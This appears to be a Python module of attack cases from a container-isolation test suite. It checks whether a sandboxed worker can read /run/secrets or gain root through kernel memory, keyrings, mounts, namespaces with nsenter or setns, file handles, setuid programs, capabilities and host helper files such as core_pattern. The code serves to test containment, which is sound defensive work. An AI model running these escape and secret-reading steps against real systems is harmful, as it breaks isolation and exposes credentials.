"""Attacks on rights that would open every secret: root's, those of namespaces, of mounts, of Linux itself.

A part of the group `secrets`.
"""

from __future__ import annotations

from ..case import Attack, Group
from .toolkit import python

_SECRETS = Group.SECRETS

_MACHINE = r"""
for path in ("/dev/mem", "/dev/kmem", "/dev/port", "/proc/kcore", "/proc/kmsg", "/dev/kmsg", "/proc/kpagecount",
             "/proc/kpageflags", "/sys/firmware/dmi/tables/DMI", "/sys/kernel/debug/kprobes/list",
             "/sys/kernel/tracing/trace", "/proc/vmallocinfo", "/proc/slabinfo", "/proc/timer_list"):
    opened = attempt(os.open, path, os.O_RDONLY | os.O_NONBLOCK)
    if opened is not None:
        keep(path, attempt(os.read, opened, 64))
for number, minor in ((1, 1), (1, 4), (1, 11)):
    if attempt(os.mknod, f"device-{minor}", 0o600 | stat.S_IFCHR, os.makedev(number, minor)) is None:
        continue
    keep("a device of our own", attempt(os.open, f"device-{minor}", os.O_RDONLY | os.O_NONBLOCK))
symbols = attempt(read, "/proc/kallsyms", 200) or b"0"
keep("addresses of Linux's own code", symbols if int(symbols.split()[0], 16) else None)
verdict()
"""

_LINUX_LOG = r"""
room = ctypes.create_string_buffer(4096)
size = attempt(call, "syslog", 3, room, 4096)
keep("Linux's log", size and room.raw[:80])
keep("its size", attempt(call, "syslog", 10, 0, 0))
said = subprocess.run(["dmesg"], capture_output=True)
keep("dmesg", said.stdout[:80])
verdict()
"""

_KEYRINGS = r"""
GET_KEYRING_ID, JOIN, READ, DESCRIBE, SEARCH, PERSISTENT = 0, 1, 11, 6, 10, 22
room = ctypes.create_string_buffer(4096)
for ring in (-3, -4, -5):
    keep(f"keyring {ring}", attempt(call, "keyctl", GET_KEYRING_ID, ring, 1, 0, 0))
    keep(f"contents of keyring {ring}", attempt(call, "keyctl", READ, ring, room, 4096, 0))
keep("the keyring that outlives root's processes", attempt(call, "keyctl", PERSISTENT, 0, -3, 0, 0))
keep("a keyring by its name", attempt(call, "keyctl", JOIN, b"_ses", 0, 0, 0))
key = attempt(call, "add_key", b"user", b"left", b"message", 7, -4)
keep("a key that all containers' processes of this user find", key)
keep("a key asked for", attempt(call, "request_key", b"user", b"left", None, -4))
verdict()
"""

_MOUNTS = r"""
os.makedirs("mounted", exist_ok=True)
BIND, RECURSIVE = 4096, 16384
for kind, source, flags in ((None, b"/run/secrets", BIND), (None, b"/", BIND | RECURSIVE), (b"proc", b"proc", 0),
                            (b"tmpfs", b"tmpfs", 0), (b"overlay", b"overlay", 0), (b"sysfs", b"sysfs", 0)):
    options = b"lowerdir=/run,upperdir=/tmp,workdir=/tmp" if kind == b"overlay" else None
    if attempt(call, "mount", source, b"mounted", kind, flags, options) is not None:
        keep(f"mounted {source}", attempt(os.listdir, "mounted") or ["nothing in it"])
keep("a tree taken out", attempt(call, "open_tree", -100, b"/run/secrets", 1))
filesystem = attempt(call, "fsopen", b"proc", 0)
if filesystem is not None:
    attempt(call, "fsconfig", filesystem, 6, 0, 0, 0)
    keep("a new /proc", attempt(call, "fsmount", filesystem, 0, 0))
shown = subprocess.run(["mount", "--bind", "/run/secrets", "mounted"], capture_output=True)
keep("mount(8)", [] if shown.returncode else ["it says that it has done so"])
keep("another root", attempt(call, "chroot", b"/run"))
verdict()
"""

_NAMESPACES = r"""
NEW = {"user": 0x10000000, "mounts": 0x20000, "processes": 0x20000000, "ipc": 0x8000000, "hosts": 0x4000000,
       "network": 0x40000000, "groups": 0x2000000}
def child(step):
    "What a process of its own says once the step has passed there."
    out, into = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.write(into, b"entered" if passes(step) else b"")
        os._exit(0)
    os.close(into)
    os.waitpid(pid, 0)
    return os.read(out, 500).decode()
for name, flag in NEW.items():
    keep(f"a namespace for {name}", child(lambda: call("unshare", flag)))
    made = attempt(call, "clone", flag | signal.SIGCHLD, 0, 0, 0, 0)
    if made == 0:
        os._exit(0)
    keep(f"a child with a namespace for {name}", made)
    fresh = struct.pack("=11Q", flag, 0, 0, 0, signal.SIGCHLD, *[0] * 6)
    made = attempt(call, "clone3", fresh, len(fresh))
    if made == 0:
        os._exit(0)
    keep(f"a child by clone3 with a namespace for {name}", made)
line = ["unshare", "--user", "--map-root-user", "--mount", "--pid", "--fork", "sh", "-c", "id -u; cat /run/secrets/*"]
keep("unshare(1)", subprocess.run(line, capture_output=True).stdout)
for kind in ("mnt", "user", "pid", "net"):
    place = attempt(os.open, f"/proc/1/ns/{kind}", os.O_RDONLY)
    if place is not None:
        keep(f"the first process's namespace {kind}", child(lambda: call("setns", place, 0)))
verdict()
"""

_HANDLES = r"""
mounts, handle = ctypes.c_int(), ctypes.create_string_buffer(8 + 128)
for path in (b"/run/secrets", b"/run/secrets/redis_worker", b"/run", b"/", b"/etc/hostname",
             b"/var/lib/outlast/sessions"):
    struct.pack_into("=Ii", handle, 0, 128, 0)
    if attempt(call, "name_to_handle_at", -100, path, handle, ctypes.byref(mounts), 0) is None:
        continue
    for base in (path, b"/etc/hosts", b"."):
        where = attempt(os.open, base, os.O_RDONLY)
        if where is not None:
            keep(f"{path} by its handle", attempt(call, "open_by_handle_at", where, handle, os.O_RDONLY))
# The shortest handles of a disk's first directories, guessed.
for number in range(1, 5):
    guess = struct.pack("=IiII", 8, 1, number, 0)
    for base in ("/etc/hosts", ".", "/"):
        where = attempt(os.open, base, os.O_RDONLY)
        if where is not None:
            keep(f"inode {number}", attempt(call, "open_by_handle_at", where, guess, os.O_RDONLY))
verdict()
"""

_SETUID_PROGRAMS = r"""
programs = [path for place in ("/usr/bin", "/usr/sbin", "/usr/lib/*") for path in glob.glob(f"{place}/*")
            if os.path.isfile(path) and os.stat(path).st_mode & 0o6000]
assert programs, "there is no such program to try"
for path in programs:
    read_end, write_end = os.pipe()
    child = subprocess.Popen([path], stdin=read_end, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    mine = (os.geteuid(), os.getegid())
    ends = time.monotonic() + 0.3
    while time.monotonic() < ends and child.poll() is None:
        with contextlib.suppress(OSError, KeyError, ValueError):
            status = dict(line.split(":\t", 1) for line in open(f"/proc/{child.pid}/status") if ":\t" in line)
            users = {int(word) for word in status["Uid"].split()} | {int(word) for word in status["Gid"].split()}
            keep(path, sorted(users - set(mine)) or int(status["CapEff"], 16))
    os.close(write_end)
    os.close(read_end)
    child.kill()
    child.wait()
verdict()
"""

_BECOME_ROOT = r"""
def ids():
    return os.getresuid() + os.getresgid() + tuple(os.getgroups())
def rights():
    line = next(line for line in open("/proc/self/status") if line.startswith("CapEff"))
    return int(line.split()[1], 16)
before = ids()
for step in ((os.setresuid, 0, 0, 0), (os.setreuid, -1, 0), (os.seteuid, 0), (os.setresgid, 0, 0, 0),
             (os.setgroups, [0]), (os.initgroups, "root", 0)):
    attempt(*step)
everything = struct.pack("=6I", *[0xFFFFFFFF] * 6)
attempt(call, "capset", struct.pack("=Ii", 0x20080522, 0), everything)
for option, value in ((47, 2), (8, 1), (28, 0), (38, 0)):  # ambient, keep, no securebits, no_new_privs off
    libc.prctl(option, value, 1, 0, 0)
keep("another user or group", ids() if ids() != before or 0 in before[:3] else None)
keep("rights", rights())
shutil.copy(sys.executable, "own-python")
attempt(os.chown, "own-python", 0, 0)
attempt(os.chmod, "own-python", 0o6755)
everywhere = struct.pack("=5I", 0x02000001, 0xFFFFFFFF, 0, 0xFFFFFFFF, 0)
attempt(os.setxattr, "own-python", "security.capability", everywhere)
line = "next(int(line[8:], 16) for line in open('/proc/self/status') if line.startswith('CapEff'))"
show = f"import os; print(not os.geteuid() or hex({line}))"
said = subprocess.run(["./own-python", "-S", "-c", show], capture_output=True, text=True).stdout.strip()
keep("a program of our own with rights", None if said in ("0x0", "") else said)
verdict()
"""

_HELPERS = r"""
got=""
try() {
    text=$(timeout 5 "$@" </dev/null 2>/dev/null | head -c 300 | tr -d '\0')
    [ -n "$text" ] && got="$got [$1] $text"
}
try su -c "cat /run/secrets/redis_worker; id -u"
try nsenter -t 1 -m -p -- sh -c "cat /run/secrets/*; id -u"
try nsenter --all -t "$PPID" -- sh -c "cat /run/secrets/*"
try setpriv --reuid 0 --clear-groups sh -c "cat /run/secrets/*; id -u"
try setpriv --inh-caps +all --ambient-caps +all grep CapAmb:.*[1-9a-f] /proc/self/status
try newgrp root
try chroot / cat /run/secrets/redis_worker
try outlast --help
try rq info
try /opt/outlast/bin/python -c "import outlast.settings; print('the worker runs its own programs for us')"
try sudo -n cat /run/secrets/redis_worker
[ -n "$got" ] && echo "BREACH $got" || echo HELD
"""

_WATCHED = r"""
ATTRIBUTES = 128
load = struct.pack("=IIQQIIQ", 1, 2, 0, 0, 0, 0, 0) + bytes(ATTRIBUTES - 40)
program = ctypes.create_string_buffer(struct.pack("=BBhi", 0xB7, 0, 0, 0) + struct.pack("=BBhi", 0x95, 0, 0, 0))
licence = ctypes.create_string_buffer(b"GPL")
load = struct.pack("=IIQQ", 1, 2, ctypes.addressof(program), ctypes.addressof(licence)) + bytes(ATTRIBUTES - 24)
keep("a program in Linux", attempt(call, "bpf", 5, load, ATTRIBUTES))
keep("a map in Linux", attempt(call, "bpf", 0, struct.pack("=4I", 2, 4, 8, 16) + bytes(ATTRIBUTES - 16), ATTRIBUTES))
counter = struct.pack("=IIQQQQQ", 1, 128, 1, 0, 0, 0, 1 << 5 | 1 << 6) + bytes(128 - 48)
for pid in [-1, *others()]:
    keep(f"a counter on {pid}", attempt(call, "perf_event_open", counter, pid, -1 if pid != -1 else 0, -1, 0))
    for kind in range(7):
        keep(f"likeness of {pid}", attempt(lambda: call("kcmp", os.getpid(), pid, kind, 0, 0) + 1))
for flags in (0, 0x200, 0xE00):
    watch = attempt(call, "fanotify_init", flags, 0)
    if watch is not None:
        keep("a watch on many files", attempt(call, "fanotify_mark", watch, 1, 0x2B, -100, b"/run/secrets") or watch)
notes = call("inotify_init1", os.O_NONBLOCK)
for path in (b"/run/secrets", b"/run/secrets/redis_worker", b"/root", b"/run/outlast/workers"):
    keep(f"a watch on {path}", attempt(call, "inotify_add_watch", notes, path, 0xFFF))
verdict()
"""

_HOST_PROGRAMS = r"""
# What Linux itself runs as root when something happens. They are opened and left as they are.
for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/sys/kernel/uevent_helper",
             "/proc/sys/fs/binfmt_misc/register", "/proc/sys/kernel/hotplug", "/proc/sysrq-trigger",
             "/sys/fs/cgroup/release_agent", "/sys/fs/cgroup/memory/release_agent", "/sys/fs/cgroup/cgroup.procs",
             "/sys/fs/cgroup/cgroup.subtree_control", "/proc/sys/kernel/yama/ptrace_scope",
             "/proc/sys/fs/suid_dumpable", "/proc/sys/kernel/randomize_va_space", "/proc/1/attr/current"):
    opened = attempt(os.open, path, os.O_WRONLY)
    keep(path, None if opened is None else "opened for writing")
for name in ("release", "x"):
    keep("a control group of our own", attempt(lambda: os.mkdir(f"/sys/fs/cgroup/{name}") or name))
for pid in [0, *others()]:
    keep(f"dumps of the memory of {pid or 'this process'}", attempt(limit, pid, resource.RLIMIT_CORE, 1 << 30, 1 << 30))
verdict()
"""

ATTACKS: tuple[Attack, ...] = (
    python(_SECRETS, "the memory of the machine", _MACHINE),
    python(_SECRETS, "Linux's own log", _LINUX_LOG),
    python(_SECRETS, "Linux's keyrings", _KEYRINGS),
    python(_SECRETS, "the secrets' directory, mounted elsewhere", _MOUNTS),
    python(_SECRETS, "root's rights, in namespaces of our own or the first process's", _NAMESPACES),
    python(_SECRETS, "files by their handles, past all directories", _HANDLES),
    python(_SECRETS, "root's rights, by programs of the system that have them", _SETUID_PROGRAMS),
    python(_SECRETS, "root's rights, asked for", _BECOME_ROOT),
    Attack(_SECRETS, "the programs that administrators and the worker use", _HELPERS, "shell"),
    python(_SECRETS, "the worker and its files, watched", _WATCHED),
    python(_SECRETS, "programs that the machine runs as root", _HOST_PROGRAMS),
)
